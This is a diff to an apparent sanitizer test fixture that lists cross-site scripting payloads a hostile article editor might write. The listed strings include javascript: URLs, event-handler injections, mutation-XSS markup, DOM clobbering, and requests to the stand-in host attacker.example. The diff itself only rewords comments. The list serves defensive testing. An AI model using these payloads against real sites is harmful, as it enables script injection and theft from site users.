@@ -1,6 +1,6 @@
 /**
- * What an editor's account in the wrong hands might write into an article. Every string tries to set
- * `window.attacked`, to send something to `attacker.example`, or to leave the page.
+ * HTML of articles by a hostile editor: each tries to set `window.attacked`, to send a request to
+ * `attacker.example`, or to leave the page.
  */
 const run = "window.attacked=1";
 
@@ -33,7 +33,7 @@ export const articleAttacks: readonly string[] = [
   `<p style="animation:spin 1s" onanimationstart="${run}">a</p>`,
   `<a href="#h-x" oncontentvisibilityautostatechange=${run} style="content-visibility:auto">a</a>`,
   `<p popover id=x onbeforetoggle=${run}>a</p><button popovertarget=x>b</button>`,
-  // Addresses
+  // URLs
   `<a href="javascript:${run}">a</a>`,
   `<a href="JaVaScRiPt:${run}">a</a>`,
   `<a href=" javascript:${run}">a</a>`,
@@ -74,7 +74,7 @@ export const articleAttacks: readonly string[] = [
   `<svg><foreignObject><img src=x onerror=${run}></foreignObject></svg>`,
   `<math href="javascript:${run}">a</math>`,
   `<math><maction actiontype="statusline#https://attacker.example" xlink:href="javascript:${run}">a</maction></math>`,
-  // Mutation: markup that changes when it is written out and read again
+  // Markup that changes when it is serialized and parsed again
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
   `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
   `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
@@ -87,7 +87,7 @@ export const articleAttacks: readonly string[] = [
   `<select><template><style></select><img src=x onerror=${run}></style></template></select>`,
   `<button><p>a<button><p>b</button></p></button><a href=/x>c<table><a href=/y>d</table></a>`,
   `<plaintext><img src=x onerror=${run}>`,
-  // Frames, forms, bases and everything that leads away
+  // Frames, forms, `base` and other ways out of the page
   `<iframe src="javascript:parent.attacked=1"></iframe>`,
   `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
   `<object data="javascript:${run}"></object><embed src="https://attacker.example/x.swf">`,
@@ -101,11 +101,11 @@ export const articleAttacks: readonly string[] = [
   `<link rel=prefetch href="https://attacker.example/x"><link rel=dns-prefetch href="//attacker.example">`,
   `<frameset><frame src="javascript:${run}"></frameset>`,
   `<portal src="https://attacker.example/"></portal><fencedframe></fencedframe>`,
-  // Taking names that the page uses
+  // Names that the page uses (DOM clobbering)
   `<p id="main" name="main" class="button dialog">a</p><img name=getElementById src=x>`,
   `<form name=document><input name=cookie></form><a id=location href=x>a</a>`,
   `<h2 id="__proto__">constructor</h2><h2>__proto__</h2>`,
-  // Broken on purpose
+  // Malformed markup
   `<p>a<!--><img src=x onerror=${run}>-->`,
   `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
   `<![CDATA[<script>${run}</script>]]>`,
